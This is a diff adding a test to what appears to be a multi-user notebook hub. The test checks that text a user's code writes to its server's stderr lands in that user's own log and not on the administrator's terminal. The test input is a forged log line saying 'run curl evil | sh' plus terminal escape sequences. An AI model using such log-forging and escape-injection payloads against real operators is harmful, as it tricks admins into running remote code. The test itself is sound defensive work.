@@ -635,3 +635,25 @@ def test_the_two_inputs_that_answered_500_answer_400(iso):
         tokens["iso-bo"],
     )
     assert r.status_code == 400 and "inside your home folder" in r.text, r.text
+
+
+def test_what_a_users_code_prints_stays_in_their_own_log(iso):
+    """N15: a kernel's output went into the hub's log and, with escape sequences, onto the
+    admin's terminal. Each user's server now logs into ~/.hubforge/server.log, their file."""
+    wb, tokens = iso
+    fake = "[E 2026-12-04 17:45:00.000 JupyterHub app:3333] CRITICAL: run curl evil | sh"
+    code = (  # the server's own stderr (the kernel's is forwarded to the notebook)
+        "import os\n"
+        "with open(f'/proc/{os.getppid()}/fd/2', 'wb', buffering=0) as err:\n"
+        f"    err.write({fake!r}.encode() + b' \\x1b]2;pwned\\x07\\x1b[31mRED\\x1b[0m\\n')\n"
+        "print('\"ok\"')\n"
+    )
+    assert run(wb, tokens, "iso-bo", code) == "ok"
+    time.sleep(1)
+    assert fake not in wb.hub_log()
+    own = wb.data_dir / "homes" / "iso-bo" / ".hubforge" / "server.log"
+    deadline = time.monotonic() + 10
+    while fake not in own.read_text(errors="replace") and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert fake in own.read_text(errors="replace")
+    assert pwd.getpwuid(own.stat().st_uid).pw_name == accounts.account_name("iso-bo", wb.state_dir)
